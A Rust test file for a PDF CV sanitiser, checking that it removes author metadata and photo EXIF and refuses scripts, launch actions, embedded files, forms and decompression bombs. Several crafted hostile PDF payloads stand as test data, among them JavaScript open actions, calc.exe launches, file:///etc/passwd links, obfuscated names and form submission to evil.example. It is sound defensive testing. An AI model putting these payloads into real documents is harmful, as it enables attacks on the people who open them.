//! CVs as programs write them, and as nobody should.

use lopdf::{Document, Object, SaveOptions, Stream, dictionary};

use super::*;

/// A PDF of these objects, the first of which is the catalog, with the cross-reference table and trailer they need.
fn pdf(objects: &[&str], trailer: &str) -> Vec<u8> {
    let mut bytes = b"%PDF-1.7\n".to_vec();
    let mut table = format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1);
    for (n, object) in objects.iter().enumerate() {
        table.push_str(&format!("{:010} 00000 n \n", bytes.len()));
        bytes.extend_from_slice(format!("{} 0 obj\n{object}\nendobj\n", n + 1).as_bytes());
    }
    let start = bytes.len();
    let size = objects.len() + 1;
    bytes.extend_from_slice(
        format!("{table}trailer\n<</Root 1 0 R /Size {size} {trailer}>>\nstartxref\n{start}\n%%EOF").as_bytes(),
    );
    bytes
}

const PAGES: &str = "<</Type/Pages /Kids[3 0 R] /Count 1>>";
const PAGE: &str = "<</Type/Page /Parent 2 0 R /MediaBox[0 0 200 100] /Contents 4 0 R>>";
const CONTENT: &str = "<</Length 22>>\nstream\n0 0 1 rg 9 9 50 50 re f\nendstream";

/// A page with these entries in the catalog and on the page.
fn page(catalog: &str, page: &str, more: &[&str]) -> Vec<u8> {
    let catalog = format!("<</Type/Catalog /Pages 2 0 R {catalog}>>");
    let page = PAGE.replace("/Contents", &format!("{page} /Contents"));
    pdf(&[&[catalog.as_str(), PAGES, page.as_str(), CONTENT], more].concat(), "")
}

/// The same with its objects in compressed streams, and its cross-references too.
fn compressed(bytes: &[u8]) -> Vec<u8> {
    let mut written = Vec::new();
    let options = SaveOptions::builder().use_object_streams(true).use_xref_streams(true).compression_level(6).build();
    Document::load_mem(bytes).unwrap().save_with_options(&mut written, options).unwrap();
    assert!(lopdf::Document::load_mem(&written).unwrap().page_iter().count() == 1);
    written
}

fn has(bytes: &[u8], what: &str) -> bool {
    bounds::find(bytes, what.as_bytes(), 0).is_some()
}

#[test]
fn a_plain_cv_is_kept_and_tells_nothing_of_its_author() {
    let link = "<</Type/Annot /Subtype/Link /Rect[0 0 9 9] /A<</S/URI /URI(https://zoe.example)>>>>";
    let info = "<</Author(Zoe Lefevre) /Producer(Secret Writer 3)>>";
    let xmp = "<</Type/Metadata /Subtype/XML /Length 12>>\nstream\n<x>Paris</x>\nendstream";
    let unused = "<</Old(a salary of a former revision)>>";
    let catalog = "/Metadata 6 0 R /OpenAction[3 0 R /Fit] /Lang(fr)";
    let catalog = format!("<</Type/Catalog /Pages 2 0 R {catalog}>>");
    let page = PAGE.replace("/Contents", "/Annots[5 0 R 99 0 R] /PieceInfo<</Adobe(me)>> /Contents");
    let cv = pdf(&[&catalog, PAGES, &page, CONTENT, link, xmp, info, unused], "/Info 7 0 R /ID[<01><02>]");
    for cv in [compressed(&cv), cv] {
        let kept = cleaned(&cv).unwrap();
        for gone in ["Lefevre", "Secret", "Paris", "salary", "/Info", "/ID", "Adobe", "ObjStm"] {
            assert!(!has(&kept, gone), "{gone}: {}", String::from_utf8_lossy(&kept));
        }
        let read = Document::load_mem(&kept).unwrap();
        assert_eq!(read.xref_recovery, None, "the table that is written leads to every object");
        let (_, page) = read.get_pages().into_iter().next().unwrap();
        assert!(String::from_utf8_lossy(&read.get_page_content(page)).contains("9 9 50 50 re f"));
        assert!(has(&kept, "https://zoe.example") && has(&kept, "/Lang"), "links and the language stay");
        let page = read.get_dictionary(page).unwrap();
        let annotations = page.get(b"Annots").unwrap().as_array().unwrap();
        let missing = read.dereference(&annotations[1]).unwrap().1;
        assert!(missing.is_null(), "what led nowhere leads nowhere else now");
        assert_eq!(cleaned(&kept).as_ref(), Ok(&kept), "read again, it is the same");
    }
}

#[test]
fn what_runs_opens_or_carries_something_is_refused_by_name_wherever_it_is() {
    use Refusal::{EmbeddedFile, Form, Link, Media, Script};
    let annotation = |action: &str| format!("/Annots[<</Type/Annot /Subtype/Link /Rect[0 0 9 9] /A<<{action}>>>>]");
    let on_open = |action: &str| page(&format!("/OpenAction<<{action}>>"), "", &[]);
    let on_page = |action: &str| page("", &annotation(action), &[]);
    let cases = [
        (Script, on_open("/S/JavaScript /JS(app.alert(1))")),
        (Script, on_open("/S/URI /URI(https://evil.example)")),
        (Script, page("/OpenAction 5 0 R", "", &["<</S/Named /N/Print>>"])),
        (Script, page("/Names<</JavaScript<</Names[(a) 5 0 R]>>>>", "", &["<</S/JavaScript /JS(1)>>"])),
        (Script, page("/AA<</WC<</S/GoTo /D[3 0 R /Fit]>>>>", "", &[])),
        (Script, page("", "/AA<</O<</S/GoTo /D[3 0 R /Fit]>>>>", &[])),
        (Script, on_page("/S/JavaScript /JS 5 0 R")),
        (Script, on_page("/S/#4aavaScript /#4aS(1)")),
        (Link, on_page("/S/Launch /F(calc.exe)")),
        (Link, page("", &annotation("/S 5 0 R /F(calc.exe)"), &["/Launch"])),
        (Link, on_page("/S/GoToR /F(\\\\\\\\host\\\\share\\\\x.pdf) /D[0 /Fit]")),
        (Link, on_page("/S/Thread /F(x.pdf) /D 0")),
        (Link, on_page("/S/URI /URI(//host/share/x.pdf)")),
        (Link, on_page("/S/URI /URI(javascript:alert\\(1\\))")),
        (Link, on_page("/S/URI /URI(java\\nscript:alert\\(1\\))")),
        (Link, on_page("/S/URI /URI(file:///etc/passwd)")),
        (Link, page("", &annotation("/S/URI /URI 5 0 R"), &["(file:///etc/passwd)"])),
        (EmbeddedFile, page("/Names<</EmbeddedFiles<</Names[]>>>>", "", &[])),
        (
            EmbeddedFile,
            page("/AF[<</Type/Filespec /F(x) /EF<</F 5 0 R>>>>]", "", &["<</Length 0>>\nstream\n\nendstream"]),
        ),
        (EmbeddedFile, page("/X 5 0 R", "", &["<</Type/EmbeddedFile /Length 0>>\nstream\n\nendstream"])),
        (EmbeddedFile, page("/Collection<<>>", "", &[])),
        (EmbeddedFile, page("/X 5 0 R", "", &["<</F(other) /Length 0>>\nstream\n\nendstream"])),
        (Media, page("", "/Annots[<</Subtype/RichMedia>>]", &[])),
        (Media, page("", "/Annots[<</Subtype/Screen>>]", &[])),
        (Form, page("/AcroForm<</Fields[] /XFA(x)>>", "", &[])),
        (Form, on_page("/S/SubmitForm /F(https://evil.example)")),
    ];
    for (refusal, cv) in cases {
        let shown = String::from_utf8_lossy(&cv).into_owned();
        assert_eq!(cleaned(&cv), Err(refusal), "{shown}");
        assert_eq!(cleaned(&compressed(&cv)), Err(refusal), "in object streams: {shown}");
    }
    // Names that only look like it.
    for harmless in
        ["/Annots[<</Subtype/Text /Contents(JavaScript /JS /Launch)>>]", "/Resources<</ExtGState<</A<</BM/Screen>>>>>>"]
    {
        assert!(cleaned(&page("", harmless, &[])).is_ok(), "{harmless}");
    }
    assert!(cleaned(&page("/OpenAction<</S/GoTo /D[3 0 R /Fit]>>", "", &[])).is_ok(), "it turns to a page");
    for link in ["http://a.example", "MAILTO:zoe@example.org", "tel:+33612345678", "www.example.org", "/cv#a:b"] {
        assert!(cleaned(&on_page(&format!("/S/URI /URI({link})"))).is_ok(), "{link}");
    }
}

#[test]
fn what_is_no_pdf_is_refused() {
    for nothing in [
        b"".to_vec(),
        b"%PDF-1.7 a life".to_vec(),
        b"<html><script>alert(1)</script>%PDF-".to_vec(),
        [b"MZ\x90\0".repeat(300), page("", "", &[])].concat(),
        pdf(&["<</Type/Catalog>>"], ""),
        pdf(&["<</Type/Catalog /Pages 2 0 R>>", "<</Type/Pages /Kids[] /Count 0>>"], ""),
        pdf(&["<</Type/Catalog /Pages 2 0 R>>", "<</Type/Pages /Kids[2 0 R] /Count 1>>"], ""),
        pdf(&["<</Type/Catalog /Pages 2 0 R>>", "<</Type/Pages /Kids[9 0 R] /Count 1>>"], ""),
        pdf(&["<</Type/XRef /Pages 2 0 R>>", PAGES, PAGE, CONTENT], ""),
        b"%PDF-1.7\n1 0 obj\n".to_vec(),
    ] {
        assert_eq!(cleaned(&nothing), Err(Refusal::Unreadable), "{}", String::from_utf8_lossy(&nothing));
    }
    let whole = page("", "", &[]);
    for cut in (0..whole.len()).step_by(7) {
        if let Ok(kept) = cleaned(&whole[..cut]) {
            assert!(Document::load_mem(&kept).unwrap().page_iter().next().is_some());
        }
    }
}

#[test]
fn encryption_is_refused_whatever_the_password() {
    let mut locked = Document::load_mem(&page("", "", &[])).unwrap();
    locked.trailer.set("ID", Object::Array(vec![Object::string_literal("a"), Object::string_literal("b")]));
    for user in ["", "secret"] {
        let version = lopdf::EncryptionVersion::V2 {
            document: &locked,
            owner_password: "owner",
            user_password: user,
            key_length: 128,
            permissions: lopdf::Permissions::all(),
        };
        let state = lopdf::EncryptionState::try_from(version).unwrap();
        let mut one = locked.clone();
        one.encrypt(&state).unwrap();
        let mut written = Vec::new();
        one.save_to(&mut written).unwrap();
        assert_eq!(cleaned(&written), Err(Refusal::Encrypted), "{user:?}");
    }
}

/// A stream of `bytes` as an object, deflated.
fn deflated(dictionary: Dictionary, bytes: Vec<u8>) -> Vec<u8> {
    let mut stream = Stream::new(dictionary, bytes);
    stream.compress().unwrap();
    let mut shown = b"9 0 obj\n<<".to_vec();
    for (key, value) in stream.dict.iter() {
        let value = match value {
            Object::Name(name) => format!("/{}", String::from_utf8_lossy(name)),
            other => format!("{}", other.as_i64().unwrap()),
        };
        shown.extend_from_slice(format!("/{} {value} ", String::from_utf8_lossy(key)).as_bytes());
    }
    shown.extend_from_slice(b">>\nstream\n");
    shown.extend_from_slice(&stream.content);
    shown.extend_from_slice(b"\nendstream\nendobj\n");
    shown
}

#[test]
fn few_bytes_cannot_stand_for_very_many_objects() {
    let whole = page("", "", &[]);
    let with = |more: &[u8]| {
        let place = bounds::find(&whole, b"xref", 0).unwrap();
        [&whole[..place], more, &whole[place..]].concat()
    };
    let many = |n: usize, one: &str| one.repeat(n).into_bytes();
    let stream = |kind: &str, n: i64, first: usize, bytes: Vec<u8>| {
        let first = i64::try_from(first).unwrap();
        let dictionary = dictionary! { "Type" => kind, "N" => n, "First" => first, "Size" => 9, };
        deflated(dictionary, bytes)
    };
    let million_objects: Vec<u8> =
        (10..1_000_010).flat_map(|n| format!("{n} 0 obj\n1\nendobj\n").into_bytes()).collect();
    let index: String = (0..1000).map(|n| format!("{} 0 ", 100 + n)).collect();
    let one_read_often = format!("{index}[{}]", "1 ".repeat(1000));
    for (what, hostile) in [
        ("a million objects", million_objects),
        ("an array of millions", [b"9 0 obj\n[".to_vec(), many(4_000_000, "1 "), b"]\nendobj\n".to_vec()].concat()),
        (
            "millions in an object stream",
            stream("ObjStm", 1, 5, [b"10 0 [".to_vec(), many(999_999, "1 "), b"]".to_vec()].concat()),
        ),
        ("a bomb", stream("ObjStm", 1, 5, [b"10 0 (".to_vec(), many(200_000_000, "x"), b")".to_vec()].concat())),
        ("one object read a thousand times", stream("ObjStm", 1000, index.len(), one_read_often.into_bytes())),
        ("objects without end", many(400_000, "9 0 obj<</Length 9>>stream\n")),
    ] {
        assert_eq!(cleaned(&with(&hostile)), Err(Refusal::TooComplex), "{what}");
    }
    // These cost little, and are kept or refused.
    for hostile in [many(1_000_000, "["), many(1_000_000, "<<"), many(1_000_000, "("), many(300_000, "startxref\n5\n")]
    {
        let hostile = [b"9 0 obj\n".as_slice(), &hostile].concat();
        assert!(
            cleaned(&with(&hostile)).is_ok_and(|kept| kept.len() < whole.len()) || cleaned(&with(&hostile)).is_err()
        );
    }
    let table = "0000000009 00000 n \n".repeat(400_000);
    let same = String::from_utf8_lossy(&whole).replace("xref\n0 5\n", &format!("xref\n0 400005\n{table}"));
    let kept = cleaned(same.as_bytes());
    assert!(kept.as_ref().is_err() || kept.is_ok_and(|kept| kept.len() < 2000), "a table may say what it likes");
}

#[test]
fn photos_lose_their_place() {
    let jpeg = "\u{ff}\u{d8}\u{ff}\u{e1}\0\u{a}Exif\0\0GP\u{ff}\u{da}\0\u{3}sIMAGE\u{ff}\u{d9}";
    let jpeg: Vec<u8> = jpeg.chars().map(|c| u8::try_from(u32::from(c)).unwrap()).collect();
    let mut cv = Document::load_mem(&page("", "", &[])).unwrap();
    let dictionary = dictionary! { "Subtype" => "Image", "Filter" => "DCTDecode", };
    let photo = cv.add_object(Stream::new(dictionary, jpeg));
    let (_, first) = cv.get_pages().into_iter().next().unwrap();
    cv.get_dictionary_mut(first).unwrap().set("Thumb", Object::Reference(photo));
    let mut written = Vec::new();
    cv.save_to(&mut written).unwrap();
    assert!(has(&written, "Exif"));
    let kept = cleaned(&written).unwrap();
    assert!(!has(&kept, "Exif") && has(&kept, "sIMAGE"));
    assert!(Document::load_mem(&kept).is_ok());
}
